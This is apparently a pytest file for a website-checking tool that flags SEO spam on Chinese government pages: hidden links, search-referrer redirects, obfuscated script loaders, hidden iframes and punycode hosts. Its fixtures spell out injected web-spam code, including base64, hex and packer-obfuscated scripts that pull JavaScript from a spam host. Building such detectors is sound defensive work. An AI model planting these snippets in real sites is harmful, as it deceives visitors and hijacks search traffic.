"""What the rules about safe links say of single pieces of markup: what intruders write, and what templates write."""

import pytest
from hypothesis import given
from hypothesis import strategies as st

import gkcheck_plugins.links
from gkcheck.extract.references import Resolver
from gkcheck.norms import Norms
from gkcheck.record import Reader
from gkcheck.rule import Rule
from gkcheck.rulefile import PRODUCT, Vocabulary, read_rule, rule_names
from gkcheck_plugins.links.hiding import colour, hiding
from gkcheck_plugins.links.outward import domain_of, host_of
from gkcheck_plugins.links.suspicious import _decoded
from gkcheck_plugins.links.unveiled import unveil

CHECKS = {check.name: check for check in gkcheck_plugins.links.gkcheck_checks()}
NORMS = Norms()
NORMS.read(PRODUCT / "norms.toml")
RULES = {
    name.code: read_rule(name, Vocabulary(CHECKS, NORMS.known))
    for folder in gkcheck_plugins.links.gkcheck_rule_files()
    for name in rule_names(folder)
}
HOST = "www.qingping.gov.cn"
PAGE = """<!DOCTYPE html><html><head><meta charset="utf-8"><title>关于开展专利转化对接活动的通知</title>
<meta name="SiteDomain" content="www.qingping.gov.cn">
<meta name="ArticleTitle" content="{title}"><meta name="PubDate" content="2024-03-11">{head}</head>
<body><div class="nav"><ul><li><a href="/">首页</a></li></ul></div>
<h1>{title}</h1><p>发布日期：2024-03-11</p>
<p>近日，市知识产权局在科技园区举办专利转化对接活动，来自高校、科研院所和企业的一百余名代表参加了活动。</p>
{body}
<div class="footer"><p>主办：青屏市知识产权局</p></div></body></html>"""


def judge(
    code: str,
    body: str,
    *,
    head: str = "",
    title: str = "关于开展专利转化对接活动的通知",
    hosts: tuple[str, ...] = (HOST,),
    path: str = "zwgk/tzgg/t1.html",
    **options: object,
) -> list[str]:
    """Variants of the findings and reasons of what could not be judged, in the order of the check."""
    rule = RULES[code]
    if options:
        rule = _with(rule, options)
    reader = Reader(Resolver(frozenset(hosts)), None, ((rule, CHECKS[rule.check]),), {})
    record = reader.read(path, PAGE.format(head=head, body=body, title=title).encode())
    assert not record.problems, record.problems
    for finding in record.findings:
        for text in rule.messages[finding.variant].values():
            assert "{" not in text.format(**finding.arguments)
        assert finding.location.line > 1
    return [
        *(f"{found.variant}{'?' if found.review else ''}" for found in record.findings),
        *(entry.reason for entry in record.unjudged),
    ]


def _with(rule: Rule, options: dict[str, object]) -> Rule:
    from dataclasses import replace

    return replace(rule, options={**rule.options, **options})


SPAM = '<a href="http://www.abc-zs.com/">真人</a>'
SCRIPTED = '<script src="/js/jquery.js"></script><script src="/js/common.js"></script>'


@pytest.mark.parametrize(
    ("body", "said"),
    [
        (f'<div style="display:none">{SPAM}<a href="http://www.xyz-zs.com/">娱乐</a></div>', ["shut"]),
        (f'<DIV STYLE="DISPLAY: none;">{SPAM}</DIV>', ["shut"]),
        (f"<span style='visibility : hidden'>{SPAM}</span>", ["shut"]),
        (f'<p style="display:none !important">{SPAM}</p>', ["shut"]),
        ('<p>详见<a href="http://www.abc-zs.com/" style="display:none">真人</a></p>', ["shut"]),
        (f'<div style="position:absolute;left:-9999px;top:0">{SPAM}</div>', ["far"]),
        (f'<div id="wz" style="position:fixed; top:-2000em">{SPAM}</div>', ["far"]),
        (f'<div style="text-indent:-9999px">{SPAM}</div>', ["far"]),
        (f'<div style="margin-left:-5000px">{SPAM}</div>', ["far"]),
        (f'<div style="height:1px;overflow:hidden">{SPAM}</div>', ["small"]),
        (f'<div style="width:0;height:0;overflow:hidden">{SPAM}</div>', ["small"]),
        (f'<div style="font-size:0">{SPAM}</div>', ["letters"]),
        ('<p><a href="http://www.abc-zs.com/" style="font-size:1px">真人</a></p>', ["letters"]),
        (f'<marquee height="1" width="4" scrollamount="3000">{SPAM}</marquee>', ["marquee"]),
        (f"<MARQUEE height=0>{SPAM}</MARQUEE>", ["marquee"]),
        ('<p style="background:#fff"><a href="http://www.abc-zs.com/" style="color:#FFFFFF">真人</a></p>', ["colour"]),
        (
            '<table><tr><td bgcolor=white><a href="http://www.abc-zs.com/" style="color:#fff">真人</a></td></tr></table>',
            ["colour"],
        ),
        (
            f'<script>document.write("<div style=\'display:none\'>");</script>{SPAM}<script>document.write("</div>");</script>',
            ["script"],
        ),
        (
            f"<script>document.write('<div style=\"position:absolute;left:-999px\">')</script>{SPAM}<script>document.write('<\\/div>')</script>",
            ["script"],
        ),
        (f'<div class="content"><p>正文</p><div style="display:none">{SPAM}</div></div>{SCRIPTED}', ["shut"]),
        (f'<div style="display:none">{SPAM}</div>' * 2, ["shut", "shut"]),
    ],
)
def test_links_that_readers_do_not_see(body: str, said: list[str]) -> None:
    assert judge("LNK007", body) == said


@pytest.mark.parametrize(
    "body",
    [
        # parts of a page that open and shut
        f'<ul class="nav"><li><a href="/zwgk/">公开</a><ul style="display:none"><li>{SPAM}</li></ul></li></ul>',
        f'<div class="tabBox"><div class="bd"><ul><li>甲</li></ul><ul style="display:none"><li>{SPAM}</li></ul></div></div>',
        f'<div class="modal" style="display:none">{SPAM}</div>',
        f'<div id="yqlj_2" style="display:none">{SPAM}</div>',
        f'<div style="display:none" class="share-layer">{SPAM}</div>',
        f'<div class="ewm_pop" style="position:absolute;left:-9999px">{SPAM}</div>',
        f'<div id="wx1" style="display:none">{SPAM}</div><script>$("#wx1").show()</script>',
        f'<div style="display:none" onmouseout="hide(this)">{SPAM}</div>',
        f'<div style="display:none" data-role="x">{SPAM}</div>',
        # links to the site itself, to public bodies, to known services
        '<div style="display:none"><a href="/zwgk/">公开</a></div>',
        '<div style="display:none"><a href="http://xxgk.qingping.gov.cn/">公开</a></div>',
        '<div style="display:none"><a href="http://www.gov.cn/">中国政府网</a><a href="http://www.people.com.cn/">人民网</a></div>',
        '<div style="display:none"><a href="https://www.cnzz.com/stat/website.php?web_id=1" title="站长统计">站长统计</a></div>',
        '<div style="display:none"><a href="http://www.tsinghua.edu.cn/">清华大学</a></div>',
        f'<div style="display:none"><a href="/a.html">甲</a>{SPAM}</div>',
        # shown after all
        f'<div style="display:block">{SPAM}</div>',
        f'<div style="text-indent:2em;left:-10px">{SPAM}</div>',
        f'<div style="overflow:hidden;height:200px">{SPAM}</div>',
        f'<div style="height:1px;line-height:1px">{SPAM}</div>',
        f'<ul style="font-size:0"><li style="font-size:14px">{SPAM}</li></ul>',
        f'<ul style="font-size:0"><li>{SPAM}</li></ul>',
        '<div style="font-size:0"><a href="http://www.abc-zs.com/"><img src="/i/1.png"></a></div>',
        '<a class="logo" href="http://www.abc-zs.com/" style="text-indent:-9999px;background:url(/i/logo.png)">某网</a>',
        f"<marquee height=30>{SPAM}</marquee>",
        '<p style="background:#fff"><a href="http://www.abc-zs.com/" style="color:#f00">真人</a></p>',
        '<div style="background:#fff"><div class="bar"><a href="http://www.abc-zs.com/" style="color:#fff">某网</a></div></div>',
        '<p style="color:#fff"><a href="http://www.abc-zs.com/">某网</a></p>',
        f"<script>document.write(\"<div style='display:none'>加载中</div>\")</script>{SPAM}",
        # nobody's link
        f"<!-- <div style='display:none'>{SPAM}</div> -->",
        f'<p style="display:none">已下线</p>{SPAM}',
        f'<textarea style="display:none">{SPAM}</textarea>',
    ],
)
def test_links_that_are_no_hidden_links(body: str) -> None:
    assert judge("LNK007", body) == []


@pytest.mark.parametrize(
    "body",
    [
        f'<div id="zz" style="display:none">{SPAM}</div>',
        f'<div class="zz" style="display:none">{SPAM}</div>',
        f'<div class="zhuti"><div>甲</div><div style="display:none">{SPAM}</div></div>',
        f'<table><tr style="display:none"><td>{SPAM}</td></tr></table>',
        f'<div class="foot"><div class="bq">版权</div><div style="display:none">{SPAM}</div></div>',
    ],
)
def test_what_a_script_may_show_is_left_open(body: str) -> None:
    assert judge("LNK007", body + SCRIPTED) == ["shown-by-script"]


def test_a_host_that_the_site_allows_may_be_hidden() -> None:
    assert judge("LNK007", f'<div style="display:none">{SPAM}</div>', allow=["abc-zs.com"]) == []


PACKED = (
    "eval(function(p,a,c,k,e,d){e=function(c){return c};while(c--){if(k[c])p=p.replace(new RegExp('\\\\b'+e(c)+'\\\\b','g'),k[c])}"
    "return p}('%s',%d,%d,'%s'.split('|'),0,{}))"
)


@pytest.mark.parametrize(
    ("body", "said"),
    [
        ('<script src="http://js.abc-zs.com/a.js"></script>', ["script?"]),
        ('<iframe src="http://www.abc-zs.com/v.html" width="500" height="300"></iframe>', ["frame?"]),
        ('<iframe src="http://www.abc-zs.com/" width=0 height=0></iframe>', ["hidden-frame"]),
        ('<iframe src="//www.abc-zs.com/" width="1" height="1" frameborder="0"></iframe>', ["hidden-frame"]),
        ('<iframe src="http://www.abc-zs.com/" style="display:none"></iframe>', ["hidden-frame"]),
        (
            '<script>var regexp=/\\.(sogou|soso|baidu|google)(\\.[a-z0-9\\-]+){1,2}\\//ig;var where=document.referrer;if(regexp.test(where)){window.location.href="http://www.abc-zs.com/1.html"}</script>',
            ["redirect"],
        ),
        (
            '<script>if(document.referrer.indexOf("baidu.com")>0){document.write(\'<script src="http://www.abc-zs.com/t.js"><\\/script>\')}</script>',
            ["redirect"],
        ),
        (
            '<script>var s=["\\x72\\x65\\x66\\x65\\x72\\x72\\x65\\x72","\\x68\\x74\\x74\\x70\\x3A\\x2F\\x2F\\x77\\x77\\x77\\x2E\\x61\\x62\\x63\\x2D\\x7A\\x73\\x2E\\x63\\x6F\\x6D\\x2F"];var r=/\\.(sogou|baidu)\\./i;if(r.test(document[s[0]])){window["location"]["href"]=s[1]}</script>',
            ["redirect"],
        ),
        (
            "<script>document.write(unescape(\"%3Cscript src='http://www.abc-zs.com/x.js'%3E%3C/script%3E\"));</script>",
            ["script?"],
        ),
        (
            "<script>document.write(unescape(\"%3Cscript src='%68%74%74%70://%77.abc%2d%7as.com/x.js'%3E%3C/script%3E\"));</script>",
            ["veil"],
        ),
        (
            '<script>var s=document.createElement("script");s.async=true;s.src="//www.abc-zs.com/x.js";document.body.appendChild(s)</script>',
            ["script?"],
        ),
        (
            "<script>eval(String.fromCharCode(108,111,99,97,116,105,111,110,46,104,114,101,102,61,34,104,116,116,112,58,47,47,119,46,97,98,99,45,122,115,46,99,111,109,34))</script>",
            ["veil"],
        ),
        (
            "<script>eval(atob('ZG9jdW1lbnQud3JpdGUoIjxzY3JpcHQgc3JjPSdodHRwOi8vdy5hYmMtenMuY29tL2EuanMnPjwvc2NyaXB0PiIp'))</script>",
            ["veil"],
        ),
        (
            "<script>"
            + PACKED % ("2.3(\\'<4 5=0://1.abc-zs.6/></4>\\')", 10, 7, "http|w|document|write|script|src|com")
            + "</script>",
            ["veil"],
        ),
        ("<script>eval(unescape(window.k))</script>", ["veiled?"]),
        (
            "<script>document.write(unescape('%3Ciframe height=1 width=1 src=%22//www.abc-zs.com/in%22%3E%3C/iframe%3E'))</script>",
            ["hidden-frame"],
        ),
        ('<script>document.write(\'<iframe src="http://www.abc-zs.com/" width="640" height="300"></iframe>\')</script>', ["frame?"]),
        (
            "<script>var f=document.createElement('iframe');f.height=200;f.src='https://www.abc-zs.com/';box.appendChild(f)</script>",
            ["frame?"],
        ),
        ("<script>eval(\"'sj.a/moc.sz-cba.www//:ptth'=ferh.noitacol\".split('').reverse().join(''))</script>", ["veil"]),
        (
            "<script>eval(atob('ZG9jdW1lbnQud3JpdGUo' + 'IjxzY3JpcHQgc3JjPS8vdy5hYmMtenMuY29tL2EuanM+PC9zY3JpcHQ+Iik='))</script>",
            ["veil"],
        ),
        (
            "<script>var _0xab12=['\\x73\\x63\\x72\\x69\\x70\\x74','\\x68\\x74\\x74\\x70\\x73\\x3a\\x2f\\x2f\\x77\\x2e\\x61\\x62\\x63\\x2d\\x7a\\x73\\x2e\\x63\\x6f\\x6d\\x2f\\x61'];"
            "var _0xc=document['createElement'](_0xab12[0x0]);_0xc['src']=_0xab12[0x1];document.body.appendChild(_0xc)</script>",
            ["veil"],
        ),
        (
            "<script>var _0xab12=['\\x73\\x63\\x72\\x69\\x70\\x74','\\x73\\x72\\x63'];var _0xc=document['createElement'](_0xab12[0]);_0xc[_0xab12[1]]=k()</script>",
            ["veiled?"],
        ),
        ("<script>[][(![]+[])[+[]]" + "+(![]+[])[!+[]+!+[]]" * 40 + "</script>", ["veiled?"]),
        ("<script>var k='" + "QUJD" * 300 + "';eval(open_(k))</script>", ["veiled?"]),
    ],
)
def test_code_that_strangers_put_there(body: str, said: list[str]) -> None:
    assert judge("LNK014", body) == said


@pytest.mark.parametrize(
    "body",
    [
        "<script type=\"text/javascript\">document.write(unescape(\"%3Cspan id='_ideConac' %3E%3C/span%3E%3Cscript src='http://dcs.conac.cn/js/09/000/0000/1/CA09.js' type='text/javascript'%3E%3C/script%3E\"));</script>",
        '<script>var cnzz_protocol=(("https:"==document.location.protocol)?"https://":"http://");document.write(unescape("%3Cspan id=\'cnzz_stat_icon_1\'%3E%3C/span%3E%3Cscript src=\'"+cnzz_protocol+"s11.cnzz.com/stat.php%3Fid%3D1\' type=\'text/javascript\'%3E%3C/script%3E"));</script>',
        '<script>var _hmt=_hmt||[];(function(){var hm=document.createElement("script");hm.src="https://hm.baidu.com/hm.js?1";var s=document.getElementsByTagName("script")[0];s.parentNode.insertBefore(hm,s);})();</script>',
        '<script id="_jiucuo_" sitecode="3303000021" src="https://zfwzgl.www.gov.cn/exposure/jiucuo.js"></script>',
        '<script src="http://pucha.kaipuyun.cn/exposure/jiucuo.js"></script><script src="//api.map.baidu.com/api?v=2.0&ak=1"></script>',
        '<script src="https://cdn.bootcss.com/jquery/1.12.4/jquery.min.js"></script><script src="http://res.wx.qq.com/open/js/jweixin-1.2.0.js"></script>',
        '<iframe src="https://v.qq.com/txp/iframe/player.html?vid=1" width="640"></iframe><iframe src="http://i.tianqi.com/index.php?c=code" height="20"></iframe>',
        '<iframe src="/inc/login.html" width="0" height="0"></iframe><iframe src="http://sso.qingping.gov.cn/" style="display:none"></iframe>',
        '<meta http-equiv="refresh" content="0;url=http://www.gov.cn/">',
        '<script>var i=new Image();i.src="http://www.abc-zs.com/1.gif";document.createElement("div")</script>',
        '<script>if(document.referrer==""){location.href="http://www.qingping.gov.cn/"}</script>',
        "<script>var k=/baidu|sogou/.exec(document.referrer);if(k){highlight(k)}</script>",
        '<script>if(/Android|iPhone/.test(navigator.userAgent)){location.href="http://m.qingping.gov.cn/"}</script>',
        "<script>var e=unescape('%E6%B5%8B');alert(e)</script>",
        "<script>document.write(unescape('%3Ca href=%22mailto:a@qingping.gov.cn%22%3E'))</script>",
        "<script>" + PACKED % ("$.0(1)", 10, 2, "show|fast") + "</script>",
        "<!-- <script src='http://www.abc-zs.com/a.js'></script><script>eval(unescape('%61'))</script> -->",
        "<p>document.referrer 与 eval( 的说明</p>",
        "<script>var logo='iVBORw0K" + "QUJD" * 300 + "';show(atob(logo))</script>",
        "<script>var rows='" + "QUJD" * 300 + "';fill(rows)</script>",
        "<script>document.write('<iframe src=\"/inc/weather.html\" width=\"0\" height=\"0\"></iframe>')</script>",
        "<script>document.write(unescape('%3Ciframe src=%22http://i.tianqi.com/index.php%22 width=%22250%22%3E'))</script>",
        "<script>var s='abc'.split('').reverse().join('');document.write(s)</script>",
        "<script>eval('var x=' + n)</script>",
    ],
)
def test_code_of_the_site_and_of_known_services(body: str) -> None:
    assert judge("LNK014", body) == []


@pytest.mark.parametrize(
    ("body", "said"),
    [
        ('<p><a href="https://item.jd.com/1.html">购买</a></p>', ["default"]),
        (
            '<p><a href="https://s.click.taobao.com/x">购买</a><a href="https://detail.tmall.com/1">详情</a></p>',
            ["advertising", "default"],
        ),
        ('<p><a href="http://www.abc-zs.com/?cpc=12">广告</a></p>', ["promotion"]),
        ('<p><a href="https://sf.taobao.com/item/1.htm">司法拍卖</a></p>', []),
        (
            '<p><a href="https://mp.weixin.qq.com/s/1">公众号</a><a href="https://map.baidu.com/?q=1">地图</a><a href="https://www.zhaopin.com/">招聘</a></p>',
            [],
        ),
        ('<p><a href="http://www.notjd.com/">某网</a><a href="http://www.jd.gov.cn/">某区</a></p>', []),
        ("<!-- <a href='https://www.jd.com/'>京东</a> -->", []),
    ],
)
def test_shops_and_advertising(body: str, said: list[str]) -> None:
    assert judge("LNK008", body) == said


def test_a_page_about_shops_is_left_open() -> None:
    title = "关于网络销售商品质量抽检情况的通报"
    assert judge("LNK008", '<a href="https://item.jd.com/1.html">被抽检网店</a>', title=title) == ["evidence"]


@pytest.mark.parametrize(
    ("body", "said"),
    [
        ('<a href="http://222.73.1.5:8080/a">系统</a><a href="http://222.73.1.5/b">系统</a>', ["number"]),
        ('<a href="http://xn--80ak6aa92e.com/">某网</a>', ["punycode"]),
        ('<a href="http://www.abc-zs.top/">某网</a><a href="http://a.vip/">某网</a>', ["ending?", "ending?"]),
        (
            '<a href="http://xn--fiq228c.xn--zfr164b/">政务</a><a href="http://中国政府网.政务/">政务</a><a href="http://xn--55qw42g.xn--fiqs8s/">公益</a>',
            [],
        ),
        ('<a href="http://topnews.com.cn/">某网</a><a href="http://www.cc.gov.cn/">某县</a>', []),
        ('<a href="http://192.168.1.1/">内网</a>', []),
    ],
)
def test_hosts_in_disguise(body: str, said: list[str]) -> None:
    assert judge("LNK015", body) == said


def test_a_name_in_code_is_shown_as_browsers_show_it() -> None:
    assert _decoded("xn--80ak6aa92e.com") == "аррӏе.com"
    assert _decoded("www.xn--fiq228c.com") == "www.中文.com"
    assert _decoded("xn--99999999999.com") in ("xn--99999999999.com", _decoded("xn--99999999999.com"))


HTTPS = '<link rel="canonical" href="https://www.qingping.gov.cn/zwgk/tzgg/t1.html">'


@pytest.mark.parametrize(
    ("body", "head", "said"),
    [
        ('<script src="http://dcs.conac.cn/a.js"></script>', HTTPS, ["script"]),
        (
            '<img src="http://www.qingping.gov.cn/i/1.png"><iframe src="http://v.qq.com/1"></iframe>',
            HTTPS,
            ["image", "frame"],
        ),
        (
            '<script src="http://dcs.conac.cn/a.js"></script><a href="https://www.qingping.gov.cn/">首页</a>',
            "",
            ["script"],
        ),
        ('<script src="http://dcs.conac.cn/a.js"></script><a href="http://www.qingping.gov.cn/">首页</a>', "", []),
        (
            '<script src="http://dcs.conac.cn/a.js"></script><a href="http://www.qingping.gov.cn/">甲</a><a href="https://www.qingping.gov.cn/a/">乙</a>',
            "",
            ["scheme"],
        ),
        ('<script src="http://dcs.conac.cn/a.js"></script>', "", ["scheme"]),
        ('<a href="http://www.gov.cn/">中国政府网</a><script src="//dcs.conac.cn/a.js"></script>', HTTPS, []),
        (
            '<script src="http://dcs.conac.cn/a.js"></script>',
            HTTPS + '<meta http-equiv="Content-Security-Policy" content="upgrade-insecure-requests">',
            [],
        ),
        ('<script src="http://dcs.conac.cn/a.js"></script>', HTTPS.replace("https", "http"), []),
        ('<p style="background:url(http://www.abc.com.cn/1.png)">甲</p>', HTTPS, ["image"]),
    ],
)
def test_resources_of_an_encrypted_page(body: str, head: str, said: list[str]) -> None:
    assert judge("LNK010", body, head=head) == said


def test_the_base_of_a_page_says_how_it_is_published() -> None:
    body = '<script src="http://dcs.conac.cn/a.js"></script>'
    for address, said in (
        (f"https://{HOST}/", ["script"]),
        (f"http://{HOST}/", []),
        ("https://cdn.abc-zs.com/", ["scheme"]),
        ("/", ["scheme"]),
    ):
        assert judge("LNK010", body, head=f'<base href="{address}">') == said


def test_how_a_site_is_published_can_be_said() -> None:
    body = '<script src="http://dcs.conac.cn/a.js"></script>'
    assert judge("LNK010", body, https="yes") == ["script"]
    assert judge("LNK010", body, head=HTTPS, https="no") == []


@pytest.mark.parametrize(
    ("body", "said"),
    [
        ('<a href="http://www.sipa.gov.cn/gb/zscq/">旧网站</a>', ["moved"]),
        ('<a href="http://old.qingping.gov.cn/a">旧网站</a><img src="//old.qingping.gov.cn/1.png">', ["own"]),
        ('<a href="http://sipa.sh.gov.cn/">上海</a><a href="http://sipa.gov.cn.example.org/">某网</a>', []),
        ("<p>旧网址为 http://old.qingping.gov.cn/ ，现已停用。</p>", []),
    ],
)
def test_addresses_given_up(body: str, said: list[str]) -> None:
    assert judge("LNK006", body, retired_hosts=["old.qingping.gov.cn"]) == said
    assert judge("LNK006", body, retired_hosts=["old.qingping.gov.cn"], hosts=(HOST, "old.qingping.gov.cn")) == said


def test_a_sites_own_domain() -> None:
    home = {"path": "index.html", "title": "青屏市人民政府"}
    label = '<meta name="SiteDomain" content="{}">'
    assert judge("LNK017", "", **home) == []  # type: ignore[arg-type]
    for value, said in (
        ("www.qingping.com", ["label"]),
        ("http://www.qingping.com/", ["label"]),
        ("青屏.政务", []),
        ("青屏.中国", []),
        ("www.qingping.gov.cn/", []),
        ("zscq.example.cn", ["sample-host"]),
        ("无", []),
    ):
        page = PAGE.replace('<meta name="SiteDomain" content="www.qingping.gov.cn">', label.format(value))
        rule = RULES["LNK017"]
        reader = Reader(Resolver(frozenset()), None, ((rule, CHECKS[rule.check]),), {})
        record = reader.read("index.html", page.format(head="", body="", title="青屏市人民政府").encode())
        assert [*(found.variant for found in record.findings), *(entry.reason for entry in record.unjudged)] == said, (
            value
        )


def test_several_own_domains_are_mixed() -> None:
    body = '<a href="http://www.qingping.gov.cn/a.html">甲</a><a href="http://www.qpzscq.gov.cn/b.html">乙</a><a href="http://xxgk.qingping.gov.cn/c.html">丙</a>'
    hosts = (HOST, "www.qpzscq.gov.cn", "xxgk.qingping.gov.cn")
    assert judge("LNK017", body, hosts=hosts) == ["mixed"]
    assert judge("LNK017", body, hosts=hosts, allow=["www.qpzscq.gov.cn"]) == []
    assert judge("LNK017", body.replace("http://www.qpzscq.gov.cn", ""), hosts=hosts) == []


def test_domains_as_they_are_registered() -> None:
    assert domain_of("a.b.qingping.gov.cn") == "qingping.gov.cn"
    assert domain_of("www.abc.com") == "abc.com"
    assert domain_of("sipa.sh.gov.cn") == "sh.gov.cn"
    assert host_of("http://[::1") == ""
    assert host_of("http:\\\\www.21.com") == "www.21.com"


@given(st.text(max_size=200))
def test_no_style_and_no_script_is_too_odd(text: str) -> None:
    hiding(text)
    colour(text)
    unveil(text)
    unveil(f"eval(unescape('{text}'))")


@given(st.text(alphabet="display:none;abcvisibilityhidden -9px0left", max_size=80))
def test_what_hides_is_one_of_the_kinds(text: str) -> None:
    assert hiding(text) in ("", "shut", "far", "small", "letters")


MARKDOWN = "---\ntitle: 关于开展专利转化对接活动的通知\ndate: 2026-03-12\n---\n\n正文第一段，说明活动的时间和地点。\n\n{}\n\n第二段。\n"


@pytest.mark.parametrize(
    ("text", "said"),
    [
        ('<div style="display:none"><a href="http://www.abc-zs.com/">某</a></div>', ["shut"]),
        ('<div style="position:absolute;left:-5000px">\n\n[某](http://www.abc-zs.com/)\n\n</div>', ["far"]),
        ('文中 <span style="font-size:0"><a href="http://www.abc-zs.com/">某</a></span> 一句', ["letters"]),
        ('<div style="display:none"><a href="/zwgk/">某</a></div>', []),
        ('<div class="tab-panel" style="display:none"><a href="http://www.abc-zs.com/">某</a></div>', []),
        ('<div style="display:none">未用</div>\n\n[某](http://www.abc-zs.com/)', []),
        ('```html\n<div style="display:none"><a href="http://www.abc-zs.com/">某</a></div>\n```', []),
        ('    <p style="display:none"><a href="http://www.abc-zs.com/">某</a></p>', []),
        ('<!-- <div style="display:none"><a href="http://www.abc-zs.com/">某</a></div> -->', []),
        ("[某](http://www.abc-zs.com/)", []),
    ],
)
def test_hidden_links_in_the_html_of_a_markdown_page(text: str, said: list[str]) -> None:
    rule = RULES["LNK007"]
    reader = Reader(Resolver(frozenset({HOST})), None, ((rule, CHECKS[rule.check]),), {})
    record = reader.read("content/tzgg/a.md", MARKDOWN.format(text).encode())
    assert not record.problems
    assert [found.variant for found in record.findings] == said
    assert all(found.location.line == 8 or found.location.line == 10 for found in record.findings)


@pytest.mark.parametrize("name", ["printArea", "print_content", "article-print-body"])
def test_what_is_printed_of_a_page_never_shuts(name: str) -> None:
    body = f'<div id="{name}"><div style="width:0;height:0;overflow:hidden"><a href="http://www.abc-zs.com/">某</a></div></div>'
    assert judge("LNK007", body) == ["small"]
    assert judge("LNK007", body.replace(name, "print-only")) == []
